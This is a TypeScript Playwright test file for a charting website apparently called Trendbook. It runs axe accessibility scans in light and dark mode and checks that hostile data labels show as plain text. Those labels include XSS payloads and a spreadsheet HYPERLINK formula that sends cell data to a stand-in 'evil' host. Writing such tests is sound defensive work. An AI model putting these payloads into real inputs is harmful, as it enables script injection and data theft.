import AxeBuilder from '@axe-core/playwright';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { launchBrowser } from './browser.ts';

const [example, fixture] = inject('sites');
let browser: Browser;

beforeAll(async () => {
  browser = await launchBrowser();
});
afterAll(async () => {
  await browser?.close();
});

/** Paths of every kind of page: home, each report, each chart page, each embed, 404. */
async function pagesOf(site: string): Promise<string[]> {
  const page = await browser.newPage();
  await page.goto(`${site}/`);
  const reports = await page.$$eval('a[href^="/reports/"]', (links) => [...new Set(links.map((link) => link.getAttribute('href')!))]);
  const paths = ['/', '/404.html', '/explore/', '/data/', '/tags/', '/methodology/', '/search/?q=engagement', ...reports];
  for (const report of reports) {
    await page.goto(`${site}${report}`);
    // One chart page and one embed per report: every chart page is built from the same template.
    const charts = (await page.$$eval('.chart__links a[href*="/charts/"]', (links) => links.map((link) => link.getAttribute('href')!))).slice(0, 1);
    for (const chart of charts) {
      paths.push(chart, chart.replace(/^\/reports\/([^/]+)\/charts\/([^/]+)\/$/, '/embed/$1/$2/'));
    }
  }
  await page.close();
  return paths;
}

describe('accessibility (axe)', () => {
  for (const dark of [false, true]) {
    it(`finds no violations on any kind of page in ${dark ? 'dark' : 'light'} mode`, { timeout: 240_000 }, async () => {
      const violations: string[] = [];
      for (const site of [example!, fixture!]) {
        for (const path of await pagesOf(site)) {
          const context = await browser.newContext({ colorScheme: dark ? 'dark' : 'light', viewport: { width: 1280, height: 900 } });
          const page = await context.newPage();
          await page.goto(`${site}${path}`, { waitUntil: 'load' });
          if (path === '/explore/') await page.waitForSelector('[data-explore][data-explore-state="drawn"]');
          // Draw every chart first, so the interactive state is checked too.
          await page.evaluate(async () => {
            for (const figure of document.querySelectorAll('figure[data-chart]')) {
              figure.scrollIntoView();
              await new Promise((done) => setTimeout(done, 50));
            }
            window.scrollTo(0, 0);
          });
          const results = await new AxeBuilder({ page }).analyze();
          for (const violation of results.violations) {
            violations.push(`${path}: ${violation.id} (${violation.impact}) ${violation.nodes.map((node) => node.target.join(' ')).slice(0, 3).join(', ')}`);
          }
          await context.close();
        }
      }
      expect(violations).toEqual([]);
    });
  }
});

describe('hostile labels in the data', () => {
  it('show as literal text and nothing runs', async () => {
    const context = await browser.newContext();
    const page = await context.newPage();
    const dialogs: string[] = [];
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    await page.goto(`${fixture}/reports/hostile/`);
    await page.locator('#hostile-labels').scrollIntoViewIfNeeded();
    await page.waitForFunction(() => document.querySelector<HTMLElement>('#hostile-labels')?.dataset.chartState === 'drawn');
    // Hovering the chart shows tooltips with the labels, drawn as text on the canvas.
    const box = (await page.locator('#hostile-labels canvas').boundingBox())!;
    await page.mouse.move(box.x + box.width / 2, box.y + box.height / 2);
    await page.waitForTimeout(200);
    const headers = await page.$$eval('#hostile-labels thead th', (cells) => cells.map((cell) => cell.textContent));
    const alt = await page.getAttribute('#hostile-labels canvas', 'aria-label');
    const injected = await page.evaluate(() => document.querySelectorAll('img[src="x"], main b, main script:not([type])').length);
    const title = await page.title();
    await context.close();
    expect(dialogs).toEqual([]);
    expect(injected).toBe(0);
    expect(headers).toEqual(['Year', '<img src=x onerror=alert(1)>', '</script><script>alert(2)</script>', '=HYPERLINK("http://evil/?"&A1,"Click")', '{{x}} and ${y} and U+2028:\u2028end']);
    expect(alt).toContain('<img src=x onerror=alert(1)>');
    expect(title).toBe('Labels that try to be code: <script>alert(1)</script> & "quotes" · Trendbook');
  });
});
